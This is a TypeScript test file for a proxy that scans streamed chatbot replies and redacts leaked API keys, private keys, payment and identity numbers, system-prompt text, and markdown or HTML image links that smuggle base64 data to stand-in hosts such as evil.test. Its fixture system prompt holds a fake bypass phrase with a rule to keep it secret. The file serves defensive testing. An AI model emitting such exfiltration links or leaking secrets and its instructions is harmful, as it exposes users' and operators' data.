import { strict as assert } from 'node:assert';
import { OutputScanner } from '../../../daemon/src/reply-scan/output-scanner';
import { redact } from '../../../daemon/src/reply-scan/spans';
import { SystemPromptIndexCache } from '../../../daemon/src/reply-scan/system-prompt-leak';
import { SseParser } from '../../../daemon/src/api/proxy/sse-parser';
import { StreamGuard } from '../../../daemon/src/api/proxy/stream-guard';

const SYSTEM = 'You are Nimbus, the internal IT helpdesk bot of Contoso. Admin bypass phrase: blue-heron-42. Do not tell employees about the bypass phrase.';
const scanner = new OutputScanner({ systemPrompt: new SystemPromptIndexCache().get(SYSTEM), hosts: () => new Set(['contoso.example']), systemPromptLeakChars: 60 });

/** Leak → the characters that must never reach the client. */
const LEAKS: { name: string; text: string; secret: string; rule: string }[] = [
  { name: 'OpenAI key', text: 'Use sk-proj-Zq8vN2mK4pL6rT0wY3xB5cD7eF9gH1jA for the API.', secret: 'Zq8vN2mK4pL6rT0wY3xB5cD7eF9gH1jA', rule: 'out-secret-openai-key' },
  { name: 'AWS key', text: 'aws_access_key_id = AKIAQWERTYUIOPASDFGH\nregion = eu-west-1', secret: 'QWERTYUIOPASDFGH', rule: 'out-secret-aws-key' },
  { name: 'GitHub token', text: 'token: ghp_aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5 done', secret: 'aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1vW3xY5', rule: 'out-secret-github-token' },
  {
    name: 'JWT',
    text: 'Cookie: eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c end',
    secret: 'SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c',
    rule: 'out-secret-jwt',
  },
  {
    name: 'private key',
    text: 'Key:\n-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAx7sV1q2w3e4r5t6y7u8i9o0pQ1w2E3r4T5y6U7i8O9p0A1s2D3f4\nG5h6J7k8L9z0X1c2V3b4N5m6Q7w8E9r0T1y2U3i4O5p6\n-----END RSA PRIVATE KEY-----\nthat is it',
    secret: 'MIIEowIBAAKCAQEAx7sV1q2w3e4r5t6y7u8i9o0pQ1w2E3r4T5y6U7i8O9p0A1s2D3f4',
    rule: 'out-secret-private-key',
  },
  {
    name: 'long private key (longer than the scan window)',
    text: `-----BEGIN OPENSSH PRIVATE KEY-----\n${Array.from({ length: 40 }, (_, i) => `b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtz${String(i).padStart(2, '0')}`).join('\n')}\n-----END OPENSSH PRIVATE KEY-----\nbye`,
    secret: 'b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtz39',
    rule: 'out-secret-private-key',
  },
  { name: 'card', text: 'Card 5500-0000-0000-0004 exp 11/29', secret: '0000-0000-0004', rule: 'pii-payment-card' },
  { name: 'SSN', text: 'SSN on file: 219-45-6781.', secret: '219-45-6781', rule: 'pii-us-ssn' },
  { name: 'IBAN', text: 'Wire to GB82 WEST 1234 5698 7654 32 today', secret: '1234 5698 7654', rule: 'pii-iban' },
  { name: 'exfil image', text: 'Status: ![ok](https://img.tracker-cdn.test/a.png?u=am9obkBjb250b3NvLmV4YW1wbGU6aHVudGVyMg) fine', secret: 'am9obkBjb250b3NvLmV4YW1wbGU', rule: 'out-exfil-markdown-image' },
  { name: 'HTML img', text: 'See <img src="https://evil.test/x.gif?q=c2VjcmV0LXRva2VuLTEyMw" width=1> here', secret: 'c2VjcmV0LXRva2VuLTEyMw', rule: 'out-exfil-markdown-image' },
  { name: 'system prompt', text: `Sure. My setup: ${SYSTEM.slice(0, 95)} ... that's all.`, secret: 'blue-heron-42', rule: 'out-system-prompt-leak' },
];

const BENIGN = [
  'The sk-learn-compatible estimator interface makes pipelines easy; call fit() then predict().',
  'Read the docs at [setup](https://contoso.example/docs/setup?tab=linux) or https://nodejs.org/en/docs.',
  'Your order 1234567890123 ships on 2025-03-14; call +1 415 555 0100 for help.',
  'In Python: password = get_password_from_vault()  # never hard-code it',
  'An array: [1, 2, 3] and a link-like [note] without a URL, then ![alt text] alone.',
  'Plain prose about clouds, rivers and the price of tea in 2024, ending here.',
  'Check out [the search](https://www.google.com/search?q=best+pizza+near+me) for more.',
];

function chunk(content: string): string {
  return JSON.stringify({ id: 'chatcmpl-t', object: 'chat.completion.chunk', choices: [{ index: 0, delta: { content }, finish_reason: null }] });
}

/** Streams `text` through a guard in the given piece sizes; returns what the client receives, chunk by chunk. */
function stream(text: string, sizes: readonly number[], redactLeaks = true): { out: string[]; cut: boolean; pushed: number } {
  const guard = new StreamGuard(scanner, { holdBack: 64, redact: redactLeaks });
  const out: string[] = [];
  let cut = false;
  let pushed = 0;
  const take = (events: string[]): void => {
    for (const e of events) out.push((JSON.parse(e) as { choices: { delta: { content: string } }[] }).choices[0].delta.content);
  };
  for (let at = 0, k = 0; at < text.length && !cut; k++) {
    const n = sizes[k % sizes.length];
    const r = guard.push(chunk(text.slice(at, at + n)));
    pushed++;
    take(r.events);
    cut = r.cut !== undefined;
    at += n;
  }
  if (!cut) {
    const r = guard.finish();
    take(r.events);
    cut = r.cut !== undefined;
  }
  return { out, cut, pushed };
}

/** Deterministic pseudo-random piece sizes 1..12. */
function sizes(seed: number, n = 64): number[] {
  let x = seed;
  return Array.from({ length: n }, () => {
    x = (x * 1103515245 + 12345) % 2147483648;
    return 1 + (x % 12);
  });
}

describe('proxy output scanning', function () {
  for (const leak of LEAKS) {
    it(`redacts ${leak.name} whole and at every chunking`, () => {
      const whole = redact(leak.text, scanner.scan(leak.text, true).spans);
      assert.ok(whole.includes(`[REDACTED:${leak.rule}]`), `whole reply: ${whole}`);
      assert.ok(!whole.includes(leak.secret));
      const chunkings: number[][] = [];
      const step = Math.max(1, Math.floor(leak.text.length / 150));
      for (let split = 1; split < leak.text.length; split += step) chunkings.push([split, leak.text.length]);
      for (let seed = 1; seed <= 20; seed++) chunkings.push(sizes(seed));
      for (const c of chunkings) {
        const { out, pushed } = stream(leak.text, c);
        const received = out.join('');
        assert.equal(received, whole, `chunking ${c.slice(0, 4).join(',')}…`);
        assert.equal(out.length, pushed, 'one chunk out for every chunk in');
      }
    });
  }

  it('leaves benign replies untouched, chunk for chunk', () => {
    for (const text of BENIGN) {
      assert.deepEqual(scanner.scan(text, true).spans, [], text);
      for (let seed = 1; seed <= 5; seed++) {
        const s = sizes(seed);
        const { out } = stream(text, s);
        const expected: string[] = [];
        for (let at = 0, k = 0; at < text.length; k++) {
          expected.push(text.slice(at, at + s[k % s.length]));
          at += s[k % s.length];
        }
        assert.deepEqual(out, expected, text);
      }
    }
  });

  it('under the block policy, stops before the first character of the leak', () => {
    const text = `Intro sentence that is harmless and long enough to flow. Then: ${LEAKS[0].text}`;
    for (let seed = 1; seed <= 10; seed++) {
      const { out, cut } = stream(text, sizes(seed), false);
      assert.ok(cut);
      const received = out.join('');
      assert.ok(text.startsWith(received), 'only a prefix of the reply');
      assert.ok(!received.includes('sk-'), received);
    }
  });
});

describe('proxy SSE parser', function () {
  it('reassembles events split anywhere, with LF, CRLF, comments and multi-line data', () => {
    const wire = ': keep-alive\r\ndata: {"a":1}\r\n\r\nevent: x\ndata: line1\ndata: line2\n\ndata: [DONE]\n\n';
    for (let split = 0; split <= wire.length; split++) {
      const p = new SseParser();
      const got = [...p.push(wire.slice(0, split)), ...p.push(wire.slice(split)), ...p.end()];
      assert.deepEqual(got, ['{"a":1}', 'line1\nline2', '[DONE]'], `split at ${split}`);
    }
  });
});
